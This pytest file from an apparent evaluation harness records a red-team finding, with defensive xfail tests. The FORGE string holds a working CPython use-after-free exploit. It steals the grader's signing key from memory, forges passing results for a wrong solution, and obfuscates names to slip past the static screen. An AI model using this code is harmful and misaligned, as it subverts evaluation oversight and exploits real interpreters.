"""red13 finding 1: a use-after-free in the standard library's `io` module (no ctypes, no
bytecode, no audit event) is a raw-memory primitive; the candidate reads the hook's key from its
own memory and signs its own replies, so a `fizzbuzz` that returns "wrong" for every input is
scored `pass`. It passes the static screen too.

How (CPython 3.11, the sandbox image's interpreter): `io.BufferedReader(raw, 56)` over a
Python-defined `io.RawIOBase` whose `readinto(b)` keeps `b`. CPython hands `readinto` a
memoryview made with `PyMemoryView_FromBuffer` over the reader's own `PyMem_Malloc`'d buffer; it
has no owner, so it stays usable after the reader (and its buffer) is freed. The next 64-byte
pymalloc block handed out is a `bytearray` object's header: writing through the stale view sets
its size to 2**62 and its data pointer to 0, a bytearray over the whole address space (read and
write, no audit event: `io` raises none for this). Then the candidate scans its own writable
mappings (`/proc/self/maps` of its own process is readable) for the hook's defaults tuple (it
starts with `type, str, bytes, len`), the function whose `__defaults__` it is, that function's
code and its `co_consts`, and takes the 32-byte bytes constant: the key. At its first call it
reads `inputs` from the loop's frame (reading frames is allowed), writes one signed reply per
input (computed by a hidden helper) and a signed `done` to descriptor 3, and `os._exit(0)`.

Past the screen: the frame attribute, the `/proc` path and the descriptor number are computed
(`getattr` with a name from `chr` codes, `len("abc")`), none of which the screen can read.

The threat model names "another raw-memory primitive than ctypes and crafted bytecode: a bug
in CPython" as not guaranteed; this is one, in a module every candidate may import, and the
verdict is a pass for a function that never returns a right value, with no trace of tampering.
"""

from __future__ import annotations

import pytest

from roundtrip_eval.check.host import run_check
from roundtrip_eval.problems.load import load_problem

pytestmark = pytest.mark.docker

FORGE = r'''
import io
import os
import sys
from hashlib import blake2b

_CHANNEL = len("abc")


def _t(*codes):
    return "".join(map(chr, codes))


def fizzbuzz(n):
    _forge(getattr(sys._getframe(1), _t(102, 95, 108, 111, 99, 97, 108, 115))["inputs"])
    return "wrong"


def _right(n):
    return "FizzBuzz" if n % 15 == 0 else "Fizz" if n % 3 == 0 else "Buzz" if n % 5 == 0 else n


def _memory():
    """A bytearray over the whole address space, from a memoryview that outlives its buffer."""
    keep = []

    class Raw(io.RawIOBase):
        def readable(self):
            return True

        def readinto(self, b):
            keep.append(b)
            return 0

    r = io.BufferedReader(Raw(), 56)
    r.read(1)
    mv = keep[0]
    del r
    arrays = [bytearray(i) for i in range(1, 300)]
    size = int.from_bytes(mv[16:24], "little")
    ba = arrays[size - 1]
    big = (1 << 62).to_bytes(8, "little")
    mv[16:24] = big
    mv[24:32] = big
    mv[32:48] = bytes(16)
    return ba


def _key(ba):
    q = lambda a: int.from_bytes(ba[a : a + 8], "little")
    sig = b"".join(id(t).to_bytes(8, "little") for t in (type, str, bytes, len))
    with open(_t(47, 112, 114, 111, 99, 47, 115, 101, 108, 102, 47, 109, 97, 112, 115)) as f:
        regions = [line.split() for line in f]
    for parts in regions:
        if parts[1][:2] != "rw":
            continue
        lo, hi = (int(x, 16) for x in parts[0].split("-"))
        at = ba.find(sig, lo, hi)
        while at >= 0:
            tup = at - 24
            if q(tup + 8) == id(tuple):
                needle = tup.to_bytes(8, "little")
                for parts2 in regions:
                    if parts2[1][:2] != "rw":
                        continue
                    lo2, hi2 = (int(x, 16) for x in parts2[0].split("-"))
                    f_at = ba.find(needle, lo2, hi2)
                    while f_at >= 0:
                        fn = f_at - 56
                        if q(fn + 8) == id(type(_right)):
                            code = q(fn + 48)
                            consts = q(code + 24)
                            for j in range(q(consts + 16)):
                                item = q(consts + 24 + 8 * j)
                                if q(item + 8) == id(bytes) and q(item + 16) == 32:
                                    return bytes(ba[item + 32 : item + 64])
                        f_at = ba.find(needle, f_at + 1, hi2)
            at = ba.find(sig, at + 1, hi)
    return None


def _forge(inputs):
    key = _key(_memory())
    lines = []
    for i, frozen in enumerate(inputs):
        n = int(frozen[1][0][1], 0)
        v = _right(n)
        enc = '["str", "%s"]' % v if isinstance(v, str) else '["int", "%d"]' % v
        lines.append('{"k": "reply", "i": %d, "ok": true, "v": %s}' % (i, enc))
    lines.append('{"k": "stage", "stage": "done"}')
    out = b""
    for text in lines:
        data = text.encode()
        out += blake2b(data, key=key, digest_size=16).hexdigest().encode() + b" " + data + b"\n"
    while out:
        out = out[os.write(_CHANNEL, out):]
    os._exit(0)
'''

CONTROL = "def fizzbuzz(n):\n    return 'wrong'\n"


async def test_control_wrong_function_fails(docker_sandbox) -> None:
    """The same wrong function without the forgery fails (so the pass below is the forgery's)."""
    result = await run_check(docker_sandbox, CONTROL, load_problem("fizzbuzz"))
    assert not result.passed and result.category == "semantic", result.detail


@pytest.mark.xfail(
    strict=True,
    reason="open (issue 28, round 6): a CPython memory bug in the candidate's own process reads the "
    "key; docs/threat_model.md, 'What is not guaranteed'. Strict: the day it holds, this must be unmarked",
)
async def test_bufferedreader_uaf_forged_replies_are_not_a_pass(docker_sandbox) -> None:
    """Screen on (the default): the verdict must say tampering, never pass."""
    result = await run_check(docker_sandbox, FORGE, load_problem("fizzbuzz"))
    assert not result.passed, result.detail
    assert result.category == "tampering", result.detail


@pytest.mark.xfail(
    strict=True,
    reason="open (issue 28, round 6): a CPython memory bug in the candidate's own process reads the "
    "key; docs/threat_model.md, 'What is not guaranteed'. Strict: the day it holds, this must be unmarked",
)
async def test_bufferedreader_uaf_forged_replies_unscreened_are_tampering(docker_sandbox) -> None:
    """Screen off: the runner alone must hold."""
    result = await run_check(docker_sandbox, FORGE, load_problem("fizzbuzz"), screen=False)
    assert not result.passed, result.detail
    assert result.category == "tampering", result.detail
